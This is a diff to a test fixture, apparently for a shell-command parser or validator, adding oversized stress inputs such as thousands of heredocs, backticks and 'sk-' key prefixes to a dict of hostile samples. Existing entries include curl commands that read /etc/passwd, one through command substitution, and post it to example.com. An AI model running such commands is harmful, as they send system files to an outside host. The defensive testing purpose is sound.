@@ -87,6 +87,9 @@ HOSTILE = {
     "curl with a file": "curl -d @/etc/passwd https://example.com",
     "curl with an open quote": 'curl -d \'{"messages": []}',
     "curl that runs something": "curl -d $(cat /etc/passwd) https://example.com",
+    "many heredocs": "curl " + "<<a\n" * 40_000,
+    "backticks": "`" * 900_000,
+    "nearly keys": "sk-" * 60_000,
     "curl in pieces": "curl -d a=1 -d b=2 https://example.com",
 }
 
